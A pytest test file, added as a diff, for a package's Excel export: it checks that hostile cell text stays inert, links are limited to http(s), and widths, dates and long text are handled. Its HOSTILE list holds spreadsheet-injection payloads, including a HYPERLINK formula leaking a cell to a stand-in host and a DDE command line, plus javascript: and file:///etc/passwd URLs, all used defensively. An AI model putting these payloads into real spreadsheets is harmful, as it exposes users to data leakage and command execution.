@@ -1,0 +1,139 @@
+"""Excel (.xlsx) exports read back with openpyxl and fastexcel: text never runs, links only for http(s),
+the header and widths a reader sees, dates as dates, Excel's limits kept without losing text."""
+
+from __future__ import annotations
+
+import zipfile
+from datetime import datetime
+from pathlib import Path
+
+import export_factory as factory
+import openpyxl
+import polars as pl
+import pytest
+from openpyxl.worksheet.worksheet import Worksheet
+
+from torq_nb.export import export, tabular
+from torq_nb.export.tabular import FORMULA_PREFIXES
+from torq_nb.research.batch import BatchResults, _Outcome
+
+HOSTILE = ['=HYPERLINK("http://evil.test/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(A1)", "-3", "@cmd",
+           "\tTAB", "http://title.test/looks-like-a-link", "plain text", "Ünïcødé 中文 😀"]
+
+
+def sheet(path: Path, name: str = "results") -> Worksheet:
+    ws = openpyxl.load_workbook(path)[name]
+    assert isinstance(ws, Worksheet)
+    return ws
+
+
+def column(ws: Worksheet, header: str) -> list[object]:
+    """The cells under ``header`` (openpyxl cell objects), header row left out."""
+    names = [cell.value for cell in ws[1]]
+    return list(next(ws.iter_cols(min_col=names.index(header) + 1, max_col=names.index(header) + 1, min_row=2)))
+
+
+def test_hostile_text_is_neutralised_text_never_a_formula_or_link(tmp_path: Path) -> None:
+    rows = [factory.row(i + 1, title=text, snippet=text) for i, text in enumerate(HOSTILE)]
+    path = export(factory.results(rows=rows), tmp_path / "r.xlsx")
+    ws = sheet(path)
+    for text, cell in zip(HOSTILE, column(ws, "title"), strict=True):
+        assert cell.data_type == "s" and cell.hyperlink is None  # type: ignore[attr-defined]
+        assert cell.value == ("'" + text if text.startswith(FORMULA_PREFIXES) else text)  # type: ignore[attr-defined]
+    with zipfile.ZipFile(path) as zf:
+        xml = zf.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheet
+
+
+def test_opt_out_keeps_text_verbatim_and_still_not_a_formula(tmp_path: Path) -> None:
+    path = export(factory.results(rows=[factory.row(1, title=HOSTILE[0])]), tmp_path / "raw.xlsx", neutralize=False)
+    cell = column(sheet(path), "title")[0]
+    assert cell.value == HOSTILE[0] and cell.data_type == "s"  # type: ignore[attr-defined]
+
+
+def test_only_short_http_urls_are_links(tmp_path: Path) -> None:
+    long_url = "https://example.org/" + "a" * 300
+    urls = ["https://example.org/a", "HTTP://example.org/b", "javascript:alert(1)", "file:///etc/passwd", long_url,
+            "ftp://example.org/c"]
+    path = export(factory.results(rows=[factory.row(i + 1, url=u) for i, u in enumerate(urls)]), tmp_path / "u.xlsx")
+    cells = column(sheet(path), "url")
+    assert [c.value for c in cells] == urls  # type: ignore[attr-defined]  # every value whole, the long one too
+    targets = [c.hyperlink.target if c.hyperlink else None for c in cells]  # type: ignore[attr-defined]
+    assert targets == [urls[0], urls[1], None, None, None, None]
+
+
+def test_links_stop_at_the_per_sheet_limit_and_the_rest_stay_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(tabular, "EXCEL_LINKS", 3)
+    path = export(factory.results(5), tmp_path / "many.xlsx")
+    cells = column(sheet(path), "url")
+    assert [c.hyperlink is not None for c in cells] == [True, True, True, False, False]  # type: ignore[attr-defined]
+    assert all(str(c.value).startswith("https://") for c in cells)  # type: ignore[attr-defined]
+
+
+def test_header_widths_dates_and_the_run_sheet(tmp_path: Path) -> None:
+    rows = [factory.row(i, snippet="word " * 400) for i in range(1, 4)]  # 2,000-character snippets
+    path = export(factory.results(rows=rows), tmp_path / "look.xlsx")
+    book = openpyxl.load_workbook(path)
+    ws = book["results"]
+    assert book.sheetnames == ["results", "run"]
+    assert ws.freeze_panes == "A2" and all(cell.font.b for cell in ws[1])
+    table = next(iter(ws.tables.values()))
+    assert table.ref == f"A1:Q{len(rows) + 1}" and table.autoFilter is not None
+    names = [cell.value for cell in ws[1]]
+
+    def width(name: str) -> float:
+        letter = openpyxl.utils.get_column_letter(names.index(name) + 1)
+        dims = next(d for d in ws.column_dimensions.values() if d.min <= names.index(name) + 1 <= d.max)
+        return float(dims.width or ws.column_dimensions[letter].width)
+
+    assert 50 <= width("snippet") <= 70  # capped, not 2,000 characters wide
+    assert width("rank") >= len("rank") and width("title") < width("snippet")
+    published, fetched = column(ws, "published")[0], column(ws, "fetched_at")[0]
+    assert published.is_date and published.value == datetime(2024, 1, 2)  # type: ignore[attr-defined]
+    assert fetched.is_date and fetched.value == datetime(2026, 11, 25, 12, 0, 1)  # type: ignore[attr-defined]
+    assert column(ws, "rank")[0].value == 1 and column(ws, "score")[0].value == 1.0  # type: ignore[attr-defined]
+    run = dict(book["run"].iter_rows(min_row=2, values_only=True))
+    assert run["topic"] == "Solar energy" and run["depth"] == "standard" and run["results"] == "3"
+    assert run["summary"].startswith("Solar panels convert light")
+
+
+def test_fastexcel_reads_the_table_back(tmp_path: Path) -> None:
+    results = factory.results(6, fail_every=3)
+    back = pl.read_excel(export(results, tmp_path / "r.xlsx"), sheet_name="results", engine="calamine")
+    assert back.columns == results.df.columns and back.height == 6
+    for name in ("rank", "title", "url", "status", "error", "http_status", "word_count"):
+        assert back[name].cast(results.df.schema[name]).to_list() == results.df[name].to_list(), name
+    assert back["published"].cast(pl.Date).to_list() == results.df["published"].to_list()
+
+
+def test_text_over_excel_cell_limit_continues_in_next_columns(tmp_path: Path) -> None:
+    page = "".join(f"{i:07d} " for i in range(10_000))  # 80,000 characters
+    rows = [factory.row(1), factory.row(2)]
+    rows[0]["content"] = page
+    path = export(factory.results(rows=rows), tmp_path / "long.xlsx")
+    ws = sheet(path)
+    names = [cell.value for cell in ws[1]]
+    at = names.index("content")
+    assert names[at:at + 4] == ["content", "content (2)", "content (3)", "word_count"]
+    first = [cell.value for cell in ws[2]][at:at + 3]
+    assert all(len(part) <= tabular.EXCEL_CELL_CHARS for part in first) and "".join(first) == page
+    assert [cell.value for cell in ws[3]][at + 1:at + 3] == [None, None]
+
+
+def test_empty_results_give_a_header_row(tmp_path: Path) -> None:
+    ws = sheet(export(factory.results(0), tmp_path / "empty.xlsx"))
+    assert [cell.value for cell in ws[1]][:3] == ["rank", "title", "url"]
+
+
+def test_zip_bundle_and_batch_exports_hold_the_workbook(tmp_path: Path) -> None:
+    with zipfile.ZipFile(export(factory.results(2), tmp_path / "bundle.zip")) as zf:
+        assert "bundle.xlsx" in zf.namelist()
+        (tmp_path / "member.xlsx").write_bytes(zf.read("bundle.xlsx"))
+    assert len(column(sheet(tmp_path / "member.xlsx"), "url")) == 2
+    batch = BatchResults(["solar", "wind"], {"solar": _Outcome("complete", "solar", factory.results(2, topic="solar")),
+                                             "wind": _Outcome("failed", "wind", reason="no results")})
+    ws = sheet(Path(batch.export(tmp_path / "batch.xlsx")))
+    assert [cell.value for cell in ws[1]][:2] == ["topic", "rank"]
+    assert [cell.value for cell in column(ws, "topic")] == ["solar", "solar"]  # type: ignore[attr-defined]
+    with zipfile.ZipFile(batch.export(tmp_path / "batch.zip")) as zf:
+        assert "batch.xlsx" in zf.namelist()
